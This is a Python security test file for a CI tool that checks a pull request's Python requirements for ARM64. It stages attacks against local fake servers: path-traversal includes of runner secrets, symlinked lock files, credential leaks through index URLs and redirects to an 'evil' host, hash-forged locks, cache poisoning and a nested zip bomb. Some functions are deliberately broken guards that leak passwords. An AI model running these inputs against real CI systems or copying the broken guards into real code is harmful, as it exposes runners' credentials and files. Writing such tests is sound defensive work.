"""What requirement files, locks and packages of a pull request name: files, addresses, and what is kept of them."""

import hashlib
import io
import json
import os
import zipfile
from collections.abc import Callable, Iterable, Iterator, Mapping
from dataclasses import replace
from functools import partial
from pathlib import Path
from typing import NoReturn

from lambdabot.arm64.files import archive
from lambdabot.arm64.indexes import environment
from lambdabot.arm64.indexes.environment import Indexes, Sources
from lambdabot.arm64.indexes.release import File
from lambdabot.arm64.manifest import Unchecked
from lambdabot.errors import PackagingError
from lambdabot.requirements_file import Entry, Option
from lambdabot.workspace import Workspace
from tests.trust.arena import HANDLER, SETTINGS, Arena, Seen
from tests.trust.lair import ELF_X86_64, lair, wheel
from tests.trust.table import Attack, Door

FILES = "files are the workspace's own"
CREDENTIALS = "credentials go to the address that the job's environment names"
KEPT = "what is kept is kept by where it came from"
HOLDS = "lambdabot.workspace:Workspace._real"
SECRET = "s3cret-of-the-runner"
BOTH = SETTINGS.replace("[x86_64]", "[x86_64, arm64]")
Attempt = Callable[[Arena], bool]


def anywhere(self: Workspace, path: Path) -> Path:  # in the guard's place
    return path.resolve()


def _alone(arena: Arena) -> None:
    """Leave the job no index that answers."""
    arena.monkeypatch.setenv("UV_DEFAULT_INDEX", "http://127.0.0.1:9/simple")
    arena.monkeypatch.setenv("UV_HTTP_RETRIES", "0")
    arena.monkeypatch.setenv("NO_PROXY", "127.0.0.1")
    arena.monkeypatch.setenv("XDG_CACHE_HOME", str(arena.runner / "cache"))
    for name in ("UV_INDEX", "UV_INDEX_URL", "PIP_INDEX_URL", "UV_EXTRA_INDEX_URL", "PIP_EXTRA_INDEX_URL"):
        arena.monkeypatch.delenv(name, raising=False)


def _check(arena: Arena) -> Seen:
    return arena.command("arm64", "src/requirements.txt")


Way = Callable[[Arena], Seen]
NOBODY = "http://127.0.0.1:9"
"""An endpoint that nobody serves: what is required is checked and packaged, and nothing is measured."""

DOORS: dict[Door, Way] = {
    "action": partial(Arena.action, endpoint=NOBODY),
    "command line": partial(Arena.run, endpoint=NOBODY),
}
CHECKS: dict[Door, Way] = {"action": DOORS["action"], "command line": _check}
MEASURES: dict[Door, Way] = {"action": Arena.action, "command line": Arena.run}


def _asks_for(arena: Arena, text: str | bytes) -> None:
    """Put requirements into the pull request's function, which is to run on arm64 too."""
    _alone(arena)
    arena.write("lambdabot.yml", BOTH)
    arena.write("src/requirements.txt", text)


def _included(through: Way, line: str = "-r ../../runner/secret.txt") -> Attempt:
    def attempt(arena: Arena) -> bool:
        arena.write("secret.txt", f"{SECRET}\n", at=arena.runner)
        arena.write(".git/secret.txt", f"{SECRET}\n")
        _asks_for(arena, f"{line}\n")
        return through(arena).shows(SECRET)

    return attempt


LOCK = f'[[package]]\nname = "{SECRET}"\nversion = "1"\n[metadata]\npython-versions = "*"\n'


PIPFILE_LOCK = json.dumps({"default": {SECRET: {"version": "==1"}}})


def _linked(name: str, content: str | bytes, *more: tuple[str, str]) -> Attempt:
    """Check a folder in which a file is a link to one of the runner's."""

    def attempt(arena: Arena) -> bool:
        _alone(arena)
        arena.write(name, content, at=arena.runner)
        arena.link(f"deps/{name}", arena.runner / name)
        for path, text in more:
            arena.write(path, text)
        return arena.command("arm64", "deps").shows(SECRET)

    return attempt


def _named_link(arena: Arena) -> bool:
    _alone(arena)
    arena.write("secret.txt", f"{SECRET}\n", at=arena.runner)
    arena.link("requirements.txt", arena.runner / "secret.txt")
    return arena.command("arm64", "requirements.txt").shows(SECRET)


def _around_what_it_leads_to(path: Path) -> Workspace:  # in the guard's place
    return Workspace(path.resolve().parent)


def _linked_zip(arena: Arena) -> bool:
    _alone(arena)
    path = arena.write("site.zip", wheel(SECRET.replace("-", "_"), {"a.py": b""}), at=arena.runner)
    arena.link("package.zip", path)
    return arena.command("arm64", "package.zip").shows(SECRET)


def _left_by_a_step(door: Way) -> Attempt:
    def attempt(arena: Arena) -> bool:
        arena.write("src/credentials.txt", f"password = {SECRET}\n")
        _asks_for(arena, "-r credentials.txt\n")
        return door(arena).shows(SECRET)

    return attempt


def _quoted(text: str, source: str) -> Unchecked:  # in the guard's place
    return Unchecked(name=text, source=source, reason=f"not a requirement: {text}")


def _refused_with_it(entry: Entry) -> NoReturn:  # in the guard's place
    message = f"`{entry.text}` is not a requirement"
    raise PackagingError(message)


def _secret_in_an_address(door: Way) -> Attempt:
    """The installer expands variables, and gets those of private indexes."""

    def attempt(arena: Arena) -> bool:
        with lair(arena) as evil:
            _asks_for(arena, f"--extra-index-url {evil.url}/${{UV_INDEX_PRIVATE_PASSWORD}}/\nalpha\n")
            arena.monkeypatch.setenv("UV_INDEX_PRIVATE_PASSWORD", SECRET)
            door(arena)
            return evil.saw(SECRET)

    return attempt


def _by_a_name(arena: Arena) -> bool:
    with lair(arena) as evil:
        _alone(arena)
        arena.monkeypatch.setenv("UV_INDEX", "private=https://127.0.0.1:9/simple")
        arena.monkeypatch.setenv("UV_INDEX_PRIVATE_PASSWORD", SECRET)
        table = f'[[tool.uv.index]]\nname = "private"\nurl = "{evil.url}"\n'
        arena.write("pyproject.toml", f'[project]\nname = "x"\ndependencies = ["alpha"]\n{table}')
        arena.command("arm64", "pyproject.toml")
        return evil.saw(SECRET)


def _named_by_the_manifest(indexes: Indexes) -> Sources:  # in the guard's place
    found = _SOURCES(indexes)
    password = os.environ["UV_INDEX_PRIVATE_PASSWORD"]
    return replace(found, addresses=tuple(one.replace("://", f"://x:{password}@") for one in found.addresses))


_SOURCES = environment.sources


def _at_another_port(door: Way) -> Attempt:
    def attempt(arena: Arena) -> bool:
        with lair(arena) as evil:
            _asks_for(arena, f"alpha @ {evil.url}/alpha-1.0-py3-none-any.whl\n")
            arena.monkeypatch.setenv("UV_INDEX", f"private=https://ci:{SECRET}@127.0.0.1:9/simple")
            door(arena)
            return evil.saw(SECRET)

    return attempt


def _in_the_clear(door: Way) -> Attempt:
    def attempt(arena: Arena) -> bool:
        arena.write(".netrc", f"machine 127.0.0.1 login ci password {SECRET}\n", at=arena.runner)
        with lair(arena, secure=False) as evil:
            _asks_for(arena, f"--index-url {evil.url}\nalpha\n")
            door(arena)
            return evil.saw(SECRET)

    return attempt


def _sent_on(door: Way) -> Attempt:
    def attempt(arena: Arena) -> bool:
        with lair(arena) as evil, lair(arena) as private:
            _asks_for(arena, f"alpha @ {private.url}/moved/alpha-1.0-py3-none-any.whl\n")
            arena.monkeypatch.setenv("UV_INDEX", private.url.replace("://", f"://ci:{SECRET}@"))
            private.moved = f"{evil.url}/alpha-1.0-py3-none-any.whl"
            door(arena)
            return evil.saw(SECRET)

    return attempt


def _poisoned(arena: Arena) -> bool:
    """Lock another's file under the hash of the true one, and let the next run believe what was read."""
    true, false = wheel("alpha", {"alpha/core": ELF_X86_64}), wheel("alpha", {"alpha/core": b""})
    digest = hashlib.sha256(true).hexdigest()
    with lair(arena, alpha=false) as evil, lair(arena, alpha=true) as index:
        _asks_for(arena, "alpha==1.0\n")
        address = f"{evil.url}/alpha-1.0-py3-none-any.whl"
        lock = '[[package]]\nname = "alpha"\nversion = "1.0"\nsource = { registry = "https://x.invalid/simple" }\n'
        lock += f'wheels = [{{ url = "{address}", hash = "sha256:{digest}" }}]\n'
        lock += '[[package]]\nname = "own"\nversion = "1"\nsource = { virtual = "." }\n'
        arena.write("uv.lock", lock + 'dependencies = [{ name = "alpha" }]\n')
        arena.command("arm64", "uv.lock")
        arena.monkeypatch.setenv("UV_DEFAULT_INDEX", index.url)
        return "[ready]" in _check(arena).log


def _by_its_hash(file: File, name: str) -> str:  # in the guard's place
    return f"{file.sha256} {file.filename}"


def _brought_along(arena: Arena) -> bool:
    """Commit a cache in which what blocks is ready."""
    with lair(arena, alpha=wheel("alpha", {"alpha/core": ELF_X86_64})) as index:
        _asks_for(arena, "alpha==1.0\n")
        arena.monkeypatch.setenv("UV_DEFAULT_INDEX", index.url)
        arena.command("arm64", "src/requirements.txt", "--cache-dir", str(arena.runner / "own"))
        for path in (arena.runner / "own").glob("*-1/*.json"):
            text = path.read_text()
            if path.parent.name == "answer-1":
                document = json.loads(text)
                document["answer"] |= {"verdict": "ready", "packages": []}
                text = json.dumps(document)
            arena.write(f".cache/{path.parent.name}/{path.name}", text)
        return "[ready]" in arena.command("arm64", "src/requirements.txt", "--cache-dir", ".cache").log


def _wherever_it_is_told(named: Path | None, workspaces: Iterable[Workspace]) -> Path:  # in the guard's place
    assert named is not None
    return named


def _bomb(door: Way) -> Attempt:
    """Pack into jars what the zip itself could not hold."""

    def attempt(arena: Arena) -> bool:
        _alone(arena)
        arena.monkeypatch.setattr(archive, "_UNZIPPED_LIMIT", 100_000)
        jar, package = io.BytesIO(), io.BytesIO()
        with zipfile.ZipFile(jar, "w", zipfile.ZIP_DEFLATED) as inner:
            inner.writestr("zeros", bytes(90_000))
        with zipfile.ZipFile(package, "w") as outer:
            outer.writestr("app.py", HANDLER)
            for number in range(2):
                outer.writestr(f"{number}.jar", jar.getvalue())
        arena.write("package.zip", package.getvalue())
        if door is _check:
            return "[ready]" in arena.command("arm64", "package.zip").log
        arena.write("lambdabot.yml", BOTH.replace("source: src", "source: package.zip"))
        (function,) = json.loads(door(arena).files["report.json"])["functions"]
        return function["arm64"]["verdict"] == "ready"

    return attempt


def nothing(*_: object) -> None:  # in a guard's place
    pass


def _links_of_the_runner(value: str, door: Way) -> Attempt:
    """Take a wheel that lies on the runner into the function, which tells what is in it."""

    def attempt(arena: Arena) -> bool:
        content = wheel("internal", {"internal.py": f"SECRET = {SECRET!r}\n".encode()})
        arena.write("wheels/internal-1.0-py3-none-any.whl", content, at=arena.runner)
        _asks_for(arena, f"--no-index\n--find-links {value.format(arena.runner)}\ninternal\n")
        arena.write("lambdabot.yml", SETTINGS)
        arena.write("src/app.py", "import internal\ndef handler(*_):\n    raise SystemError(internal.SECRET)\n")
        return door(arena).shows(SECRET)

    return attempt


def _any_folder(option: Option, workspace: Workspace) -> Path:  # in the guard's place
    return (option.folder / option.value).resolve()


class _AnyAddress:  # in the guard's place
    @staticmethod
    def match(_: str) -> bool:
        return True


LOCKS = "a run checks requirements and packages, and reads no lock"
NAMED = "a run is named no file to check"
KEEPS = "no input of the action names a cache"

NO_WHEELS = ("lambdabot.packaging.requirements:_folder", _any_folder)
NO_FILES = ("lambdabot.packaging.requirements:_WEB", _AnyAddress)


def _row(
    name: str,
    door: Door,
    attempt: Attempt,
    guard: str = HOLDS,
    without: object = anywhere,
    *,
    promise: str = FILES,
    only: str = "",
) -> Attack:
    return Attack(name=name, promise=promise, door=door, attempt=attempt, guard=guard, without=without, only=only)


def _rows(
    name: str,
    attempt: Callable[[Way], Attempt],
    guard: str = HOLDS,
    without: object = anywhere,
    *,
    ways: Mapping[Door, Way] = DOORS,
    promise: str = FILES,
) -> Iterator[Attack]:
    for door, way in ways.items():
        yield _row(name, door, attempt(way), guard, without, promise=promise)


ATTACKS = [
    *_rows("includes a file of the runner", _included),
    *_rows("includes a file of git's own", partial(_included, line="-r ../.git/secret.txt"), ways=CHECKS),
    _row(
        "includes a file of the runner that is checked for ARM64",
        "command line",
        _included(_check),
        only="a run reads the file for its package as well, which is another row",
    ),
    _row("has a lock that is a link", "command line", _linked("poetry.lock", LOCK), only=LOCKS),
    _row(
        "has a pyproject.toml beside its lock that is a link",
        "command line",
        _linked(
            "pyproject.toml",
            f'[project]\nname = "x"\ndependencies = ["{SECRET}"]\n',
            ("deps/poetry.lock", "package = []"),
        ),
        only=LOCKS,
    ),
    _row("has a Pipfile.lock that is a link", "command line", _linked("Pipfile.lock", PIPFILE_LOCK), only=LOCKS),
    _row(
        "lets the checked file itself be a link",
        "command line",
        _named_link,
        "lambdabot.workspace:Workspace.around",
        staticmethod(_around_what_it_leads_to),
        only=NAMED,
    ),
    _row("lets a zip be a link", "command line", _linked_zip, only=NAMED),
    *_rows("packs a bomb into a bomb", _bomb, "lambdabot.arm64.files.archive:_Bounds.take", nothing, ways=CHECKS),
    *_rows(
        "takes the runner's wheels into the function",
        partial(_links_of_the_runner, "../../runner/wheels"),
        *NO_WHEELS,
        ways=MEASURES,
    ),
    *_rows(
        "takes the runner's wheels by their address",
        partial(_links_of_the_runner, "file://{}/wheels"),
        *NO_FILES,
        ways=MEASURES,
    ),
    *_rows(
        "includes credentials that an earlier step left, for ARM64",
        _left_by_a_step,
        "lambdabot.arm64.formats.requirements_txt:parse_requirement",
        _quoted,
        ways=CHECKS,
    ),
    *_rows(
        "includes credentials that an earlier step left, for the package",
        _left_by_a_step,
        "lambdabot.packaging.requirements:_unnamed",
        _refused_with_it,
    ),
    *_rows(
        "puts a variable into the address of its index",
        _secret_in_an_address,
        "lambdabot.requirements_file:has_variable",
        lambda _: False,
        promise=CREDENTIALS,
    ),
    _row(
        "gives its own index the private one's name",
        "command line",
        _by_a_name,
        "lambdabot.arm64.check:sources",
        _named_by_the_manifest,
        promise=CREDENTIALS,
        only="a run checks requirements and packages, and reads no pyproject.toml",
    ),
    *_rows(
        "listens at another port of the private index's host",
        _at_another_port,
        "lambdabot.arm64.indexes.transport:_origin",
        lambda parts: (parts.scheme, parts.hostname),
        ways=CHECKS,
        promise=CREDENTIALS,
    ),
    *_rows(
        "names a host of netrc over plain http",
        _in_the_clear,
        "lambdabot.arm64.indexes.transport:Transport._may_log_in",
        lambda *_: True,
        ways=CHECKS,
        promise=CREDENTIALS,
    ),
    *_rows(
        "is sent on from the private index to its own",
        _sent_on,
        "requests:Session.should_strip_auth",
        lambda *_: False,
        ways=CHECKS,
        promise=CREDENTIALS,
    ),
    _row(
        "locks its own file under another's hash",
        "command line",
        _poisoned,
        "lambdabot.arm64.files.reader:_key",
        _by_its_hash,
        promise=KEPT,
        only=LOCKS,
    ),
    _row(
        "commits a cache",
        "command line",
        _brought_along,
        "lambdabot.commands.arm64:_cache_dir",
        _wherever_it_is_told,
        promise=KEPT,
        only=KEEPS,
    ),
]
